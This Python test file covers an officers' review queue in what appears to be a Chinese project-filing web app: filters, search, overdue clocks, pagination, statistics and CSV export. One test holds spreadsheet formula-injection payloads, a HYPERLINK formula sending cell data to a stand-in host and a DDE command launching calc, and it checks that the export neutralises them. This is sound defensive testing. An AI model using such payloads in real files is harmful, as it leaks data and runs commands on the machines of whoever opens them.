"""The officers' queue: filters, search, counts, clocks, pages and CSV."""

import csv
import datetime as dt
import io

from app.cases.models import Application
from app.extensions import db
from app.workdays import china_date
from tests.support.answers import domestic_steps


def test_queue_lists_filters_and_searches(submit_case, officer, decide):
    local = submit_case()
    steps = domestic_steps()
    steps["project"].update(location_scope="cross_city", project_name="跨市物流园项目")
    far = submit_case(steps)
    decide(local, "accept")
    page = officer.get("/review/").get_data(as_text=True)
    assert "年产10万台智能电机技改项目" in page and "跨市物流园项目" in page
    assert "共 2 件" in page
    only_escalated = officer.get("/review/?escalated=yes").get_data(as_text=True)
    assert "跨市物流园项目" in only_escalated and "智能电机" not in only_escalated
    accepted = officer.get("/review/?state=accepted").get_data(as_text=True)
    assert "智能电机" in accepted and "跨市物流园" not in accepted
    assert "物流园" in officer.get("/review/?q=物流").get_data(as_text=True)
    assert "共 0 件" in officer.get("/review/?q=不存在的项目").get_data(as_text=True)
    assert "共 2 件" in officer.get("/review/?q=91330109").get_data(as_text=True)  # credit code
    assert "共 1 件" in officer.get("/review/?level=province").get_data(as_text=True)
    assert "共 2 件" in officer.get("/review/?section=C").get_data(as_text=True)
    assert "共 0 件" in officer.get("/review/?town=guali_zhen").get_data(as_text=True)
    today = china_date(dt.datetime.now(dt.UTC).replace(tzinfo=None)).isoformat()  # the office's day, not the machine's
    assert "共 2 件" in officer.get(f"/review/?since=2020-01-01&until={today}").get_data(as_text=True)
    assert far


def test_clock_turns_red_past_the_limit(submit_case, officer, app):
    app_id = submit_case()
    with app.app_context():
        application = db.session.get(Application, app_id)
        application.submitted_at = dt.datetime(2026, 1, 5, 2, 0)  # long ago
        db.session.commit()
    page = officer.get("/review/").get_data(as_text=True)
    assert "已超期" in page


def test_pagination(submit_case, officer, app):
    submit_case()
    with app.app_context():
        base = db.session.query(Application).one()
        for i in range(30):  # copies of the submitted case, for the list only
            db.session.add(Application(user_id=base.user_id, spec_version_id=base.spec_version_id,
                                       status=base.status, answers={}, reference=f"XS-2026-9{i:05d}",
                                       project_name=f"批量项目{i:02d}", submitted_at=base.submitted_at))
        db.session.commit()
    first = officer.get("/review/?sort=reference").get_data(as_text=True)
    assert "1 / 2" in first and "下一页" in first
    second = officer.get("/review/?sort=reference&page=2").get_data(as_text=True)
    assert "批量项目29" in second


def test_csv_export_opens_in_excel(submit_case, officer):
    submit_case()
    response = officer.get("/review/?format=csv")
    assert response.headers["Content-Type"].startswith("text/csv")
    assert response.data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0][0] == "受理编号" and rows[1][1] == "年产10万台智能电机技改项目"


def test_statistics_page(submit_case, officer, decide):
    app_id = submit_case()
    decide(app_id, "accept")
    decide(app_id, "complete", project_code="2311-330109-04-01-789813")
    page = officer.get("/review/stats").get_data(as_text=True)
    assert "一次通过率" in page and "100%" in page and "<svg" in page


def test_csv_cells_that_would_run_as_formulas_are_neutralised(submit_case, officer):
    steps = domestic_steps()
    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    steps["project"]["project_name"] = evil
    steps["enterprise"]["enterprise_name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    submit_case(steps)
    rows = list(csv.reader(io.StringIO(officer.get("/review/?format=csv").data.decode("utf-8-sig"))))
    assert rows[1][1] == "'" + evil
    assert rows[1][2].startswith("'@")
    assert rows[1][11] == "0"  # numbers stay numbers


def test_percent_and_underscore_in_a_search_are_literal(submit_case, officer):
    steps = domestic_steps()
    steps["project"]["project_name"] = "100%_纯电项目"
    submit_case(steps)
    submit_case()
    assert "共 2 件" in officer.get("/review/?q=").get_data(as_text=True)
    assert "共 1 件" in officer.get("/review/?q=0%25_").get_data(as_text=True)
    assert "共 1 件" in officer.get("/review/?q=%25").get_data(as_text=True)
    assert "共 1 件" in officer.get("/review/?q=_").get_data(as_text=True)


def test_the_queue_reads_the_fields_the_spec_declares(app, tmp_path, officer):
    """An admin renames `town` (and says so in case_index): filters, columns and CSV follow."""
    from app.publishing import service as publishing
    from tests.support import factories
    from tests.support.spec_copies import spec_copy

    renamed = spec_copy(tmp_path, name="renamed.yaml", spec_edits=[
        ("- {id: town, type: select,", "- {id: township, type: select,"), ("  town: town\n", "  town: township\n"),
        ("site: [town,", "site: [township,")])
    for template in (tmp_path / "doc_templates").glob("*.yaml"):
        template.write_text(template.read_text(encoding="utf-8").replace("answers.town", "answers.township"),
                            encoding="utf-8")
    steps = domestic_steps()
    steps["project"]["township"] = steps["project"].pop("town")
    with app.app_context():
        publishing.publish_file(renamed, app.config["SITE_LEVEL"])
        factories.make_case("submitted", steps=steps)
    page = officer.get("/review/?town=beigan_jiedao").get_data(as_text=True)
    assert "共 1 件" in page and '<option value="beigan_jiedao" selected>' in page
    rows = list(csv.reader(io.StringIO(officer.get("/review/?format=csv").data.decode("utf-8-sig"))))
    assert rows[1][9] == "北干街道"  # the option's label, read from the renamed field
